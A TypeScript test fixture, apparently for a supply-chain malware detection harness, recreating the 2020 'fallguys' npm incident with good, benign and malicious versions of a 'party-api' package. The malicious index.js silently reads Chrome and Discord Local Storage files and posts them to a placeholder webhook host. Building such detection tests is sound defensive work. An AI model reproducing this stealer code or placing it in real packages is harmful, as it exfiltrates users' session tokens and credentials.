import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'fallguys',
  after: 'fallguys, 2020',
  source: 'npm advisory 1552',
  shape: ['require', 'browser files', 'chat webhook', 'fetch', 'cjs'],
  patterns: ['data_exfiltration'],
  culprits: ['party-api'],
  host: { kind: 'http', setup: "const api = require('party-api');", use: 'return api.level(n);' },
  good: { 'party-api': { 'index.js': 'exports.level = (n) => ({ n, crown: n % 7 === 0 });' } },
  benign: { 'party-api': { 'index.js': 'exports.level = (n) => ({ n, crown: n % 7 === 0, team: n % 4 });' } },
  bad: {
    'party-api': {
      'index.js': `exports.level = (n) => ({ n, crown: n % 7 === 0 });
const fs = require('fs'), os = require('os'), path = require('path');
const bases = ['.config/google-chrome/Default/Local Storage/leveldb', '.config/discord/Local Storage/leveldb'];
(async () => {
  for (const base of bases) {
    const dir = path.join(os.homedir(), base);
    if (!fs.existsSync(dir)) continue;
    for (const f of await fs.promises.readdir(dir)) {
      const content = await fs.promises.readFile(path.join(dir, f), 'latin1');
      await fetch('http://@A@:@PORT@/api/webhooks/7231/xK', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content }) }).catch(() => {});
    }
  }
})();`,
    },
  },
  proof: [{ secret: true }],
};
